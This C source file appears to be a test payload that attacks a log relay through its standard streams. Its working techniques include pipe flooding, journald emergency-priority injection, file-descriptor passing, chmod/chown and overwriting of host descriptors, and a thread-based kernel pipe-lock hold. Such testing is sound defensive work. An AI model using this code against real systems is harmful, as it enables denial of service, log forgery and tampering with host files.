/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

/* A payload that attacks through its standard streams: hostile ATTACK [ARGUMENT...]. Static, as it runs in any image.
 */

static void say(const char *text) {
        (void) !write(STDOUT_FILENO, text, strlen(text));
}

static int reopen(int fd, int flags) {
        char path[32];

        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        return open(path, flags);
}

static int waiting(void) {
        int n = 0;

        return ioctl(STDOUT_FILENO, FIONREAD, &n) == 0 ? n : 0;
}

static void wait_exactly(long nanoseconds) {
        struct timespec begin, now;

        clock_gettime(CLOCK_MONOTONIC, &begin);
        do
                clock_gettime(CLOCK_MONOTONIC, &now);
        while ((now.tv_sec - begin.tv_sec) * 1000000000 + now.tv_nsec - begin.tv_nsec < nanoseconds);
}

/* Bytes without the end of a line vanish: somebody waits for more of them. */
static bool somebody_waits(int thief, char *buffer, size_t size) {
        for (int i = 0; i < 2; i++) {
                say("y");
                usleep(3000);
                if (waiting() > 0) {
                        (void) !read(thief, buffer, size);
                        return false;
                }
        }
        return true;
}

/* steal FILE: take from the pipe what the relay has seen in it, before it takes it itself, until it waits for that,
 * or many times. Then makes the file. */
static int steal(char **arguments) {
        static char line[30000], buffer[65536];
        int thief = reopen(STDOUT_FILENO, O_RDONLY | O_NONBLOCK);
        time_t begin = time(NULL);

        memset(line, 'x', sizeof line);
        line[sizeof line - 1] = '\n';
        while (time(NULL) < begin + 15) {
                (void) !write(STDOUT_FILENO, line, sizeof line);
                wait_exactly(random() % 300000);
                if (read(thief, buffer, sizeof buffer) > 0 && somebody_waits(thief, buffer, sizeof buffer))
                        break;
        }
        close(open(arguments[0], O_WRONLY | O_CREAT, 0600));
        return pause();
}

/* open(2) does not take O_DIRECT for a pipe. */
static int reopen_for_packets(int flags) {
        int fd = reopen(STDOUT_FILENO, O_WRONLY);

        if (fd < 0 || fcntl(fd, F_SETFL, O_DIRECT | flags) < 0)
                exit(5);
        return fd;
}

/* As many and as small pieces as there can be, and never the end of a line. */
_Noreturn static int packets(char **arguments) {
        int size = 4096, out = reopen_for_packets(O_NONBLOCK);

        for (unsigned i = 0;; i++) {
                struct pollfd writable = { .fd = out, .events = POLLOUT };

                if (write(out, "x", 1) < 0)
                        (void) poll(&writable, 1, 1000);
                if (i % 1000 == 0)
                        (void) fcntl(out, F_SETPIPE_SZ, size = size == 4096 ? 1 << 20 : 4096);
        }
}

/* Pages of a file and of memory, which are something else when the relay reads them. */
_Noreturn static int pages(char **arguments) {
        int file = open("/tmp/pages", O_RDWR | O_CREAT, 0600);
        char *page = aligned_alloc(4096, 8192);

        for (unsigned i = 0;; i++) {
                struct iovec iov = { page, 8192 };
                off_t offset = 0;

                memset(page, i % 7 ? 'x' : '\n', 8192);
                (void) !pwrite(file, page, 8192, 0);
                (void) splice(file, &offset, STDOUT_FILENO, NULL, 8192, 0);
                (void) !ftruncate(file, 0);
                (void) vmsplice(STDOUT_FILENO, &iov, 1, 0);
        }
}

_Noreturn static int flood(char **arguments) {
        static char line[4096];

        memset(line, 'x', sizeof line);
        line[sizeof line - 1] = '\n';
        for (;;)
                (void) !write(STDOUT_FILENO, line, sizeof line);
}

static int chown_pipe(char **arguments) {
        (void) !fchown(STDOUT_FILENO, 4321, 4321);
        say("in the name of another\n");
        return pause();
}

/* What journald would read as an emergency, in all the ways in which it may get there. */
static int emergency(char **arguments) {
        static char long_line[3 * 48 * 1024 + 1];
        static const char *const parts[] = { "<", "0", ">of packets\n", "<0", ">of two\n", NULL };
        int out;

        say("<0>plain\n<00>two digits\n<000>three digits\n");
        (void) !write(STDOUT_FILENO, "before\0<0>after a NUL\n", 22);
        memset(long_line, 'x', sizeof long_line - 1);
        for (size_t at = 48 * 1024; at + 20 < sizeof long_line; at += 48 * 1024)
                memcpy(long_line + at, "<0>of a long line ", 18);
        say(long_line);
        say("\n");
        sleep(1);
        /* A pipe of one slot is full with one packet, so that each is sent alone. */
        out = reopen_for_packets(0);
        (void) fcntl(out, F_SETPIPE_SZ, 4096);
        for (int i = 0; parts[i]; i++) {
                (void) !write(out, parts[i], strlen(parts[i]));
                usleep(200000);
        }
        say("<7>done\n");
        return pause();
}

static int local(const char *path) {
        struct sockaddr_un name = { .sun_family = AF_UNIX };
        int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

        snprintf(name.sun_path, sizeof name.sun_path, "%s", path);
        return connect(fd, (struct sockaddr *) &name, sizeof name) == 0 ||
                               bind(fd, (struct sockaddr *) &name, sizeof name) == 0 ?
                       fd :
                       -1;
}

/* keep SOCKET: whatever pipes one is sent stay open. */
_Noreturn static int keep(char **arguments) {
        char byte, control[256];
        struct iovec data = { &byte, 1 };
        int fd = local(arguments[0]);

        for (;;) {
                struct msghdr message = {
                        .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control
                };

                if (recvmsg(fd, &message, 0) >= 0)
                        say("kept\n");
        }
}

/* give SOCKET: send our output there, and end. */
static int give(char **arguments) {
        union {
                struct cmsghdr header;
                char space[CMSG_SPACE(2 * sizeof(int))];
        } control = { .header = { CMSG_LEN(2 * sizeof(int)), SOL_SOCKET, SCM_RIGHTS } };
        struct iovec data = { (char *) "x", 1 };
        struct msghdr message = {
                .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control
        };
        const int fds[] = { STDOUT_FILENO, STDERR_FILENO };

        memcpy(CMSG_DATA(&control.header), fds, sizeof fds);
        say("giving\n");
        return sendmsg(local(arguments[0]), &message, 0) == 1 ? 3 : 4;
}

/* streams FD...: take over what these are, if they are anything of the host's. */
static int streams(char **arguments) {
        say("hello\n");
        for (char **argument = arguments; *argument; argument++) {
                int fd = atoi(*argument), again;

                (void) fchmod(fd, 06777);
                (void) !fchown(fd, 4321, 4321);
                again = reopen(fd, O_RDWR);
                if (again >= 0 && lseek(again, 0, SEEK_SET) == 0)
                        (void) !write(again, "OVERWRITTEN", 11);
                (void) ftruncate(again, 11);
                fprintf(stderr, "%d: %s\n", fd, isatty(fd) ? "a terminal" : "no terminal");
        }
        return 0;
}

/* No attack: only a message to systemd. */
static int ready(char **arguments) {
        (void) !send(local(getenv("NOTIFY_SOCKET")), "READY=1", 7, 0);
        return pause();
}

/*
 * hold: keep the kernel's lock of our own pipe. write(2) has it while it copies from memory. That memory is a hole in
 * a file, which has to wait for whoever makes another hole there; and when that is done, our other threads have all
 * processors. */

#define SPINNERS 300
#define HOLD_SECONDS 30
#define LINES_SIZE ((size_t) 600 << 10)
#define HELD_SIZE ((size_t) 200 << 10) /* of the pipe, which has 1 MiB */
#define FILE_SIZE ((size_t) 700 << 20)

static struct {
        int file;
        char *memory;
        char *lines;
        atomic_int writer; /* thread id */
        atomic_int spin;   /* a futex */
        atomic_int round;
        atomic_bool is_hole, punching, punched, is_in_write;
} hold;

static void *run_spinner(void *data) {
        for (;;) {
                while (!hold.spin)
                        syscall(SYS_futex, &hold.spin, FUTEX_WAIT, 0, NULL, NULL, 0);
                while (hold.spin)
                        ;
        }
        return NULL;
}

static void punch(size_t size) {
        (void) fallocate(hold.file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, (off_t) size);
}

static void next_round(int *round) {
        while (hold.round == *round)
                usleep(200);
        *round = hold.round;
}

static void *run_writer(void *data) {
        hold.writer = (int) syscall(SYS_gettid);
        for (int round = 0;;) {
                next_round(&round);
                punch(1 << 20);
                hold.is_hole = true;
                while (!hold.punching)
                        ;
                (void) !write(STDOUT_FILENO, hold.lines, LINES_SIZE);
                hold.is_in_write = true;
                (void) !write(STDOUT_FILENO, hold.memory, HELD_SIZE);
                hold.is_in_write = false;
        }
        return NULL;
}

static void *run_puncher(void *data) {
        for (int round = 0;;) {
                next_round(&round);
                while (!hold.is_hole)
                        usleep(50);
                hold.punching = true;
                punch(FILE_SIZE);
                hold.punched = true;
        }
        return NULL;
}

static void start_threads(void *(*run)(void *), int n) {
        pthread_attr_t attributes;
        pthread_t thread;

        pthread_attr_init(&attributes);
        pthread_attr_setstacksize(&attributes, 64 << 10);
        while (n-- > 0)
                if (pthread_create(&thread, &attributes, run, NULL) != 0)
                        exit(6);
}

static bool writer_sleeps(void) {
        char path[64], state = '?';
        FILE *file;

        snprintf(path, sizeof path, "/proc/self/task/%d/stat", hold.writer);
        file = fopen(path, "re");
        (void) !fscanf(file, "%*d (%*[^)]) %c", &state);
        fclose(file);
        return state == 'D';
}

static void hold_once(void) {
        const struct sched_param none = { 0 };

        memset(hold.memory + (1 << 20), 1, FILE_SIZE - (1 << 20));
        hold.is_hole = hold.punching = hold.punched = false;
        hold.round++;
        while (!hold.punched && !(hold.is_in_write && writer_sleeps()))
                usleep(50);
        (void) sched_setscheduler(hold.writer, SCHED_IDLE, &none);
        hold.spin = 1;
        syscall(SYS_futex, &hold.spin, FUTEX_WAKE, INT32_MAX, NULL, NULL, 0);
        while (!hold.punched)
                usleep(1000);
        usleep(20000);
        for (int i = 0; i < HOLD_SECONDS * 1000 && hold.is_in_write; i++)
                usleep(1000);
        hold.spin = 0;
        (void) sched_setscheduler(hold.writer, SCHED_OTHER, &none);
        while (hold.is_in_write)
                usleep(1000);
}

_Noreturn static int hold_pipe(char **arguments) {
        (void) fcntl(STDOUT_FILENO, F_SETPIPE_SZ, 1 << 20);
        hold.file = memfd_create("hold", 0);
        (void) !ftruncate(hold.file, (off_t) FILE_SIZE);
        hold.memory = mmap(NULL, FILE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, hold.file, 0);
        hold.lines = malloc(LINES_SIZE);
        for (size_t i = 0; i < LINES_SIZE; i++)
                hold.lines[i] = i % 100 == 99 ? '\n' : 'p';
        hold.lines[LINES_SIZE - 1] = 'p'; /* the relay looks again and again for the end of this line */
        start_threads(run_spinner, SPINNERS);
        start_threads(run_writer, 1);
        start_threads(run_puncher, 1);
        while (!hold.writer)
                usleep(1000);
        for (;;)
                hold_once();
}

static const struct {
        const char *name;
        int (*run)(char **arguments);
} attacks[] = {
        { "steal", steal },           { "packets", packets },     { "pages", pages }, { "flood", flood },
        { "chown-pipe", chown_pipe }, { "emergency", emergency }, { "keep", keep },   { "give", give },
        { "streams", streams },       { "hold", hold_pipe },      { "ready", ready },
};

int main(int argc, char **argv) {
        for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
                if (strcmp(argv[1], attacks[i].name) == 0)
                        return attacks[i].run(argv + 2);
        fprintf(stderr, "there is no such attack\n");
        return 2;
}
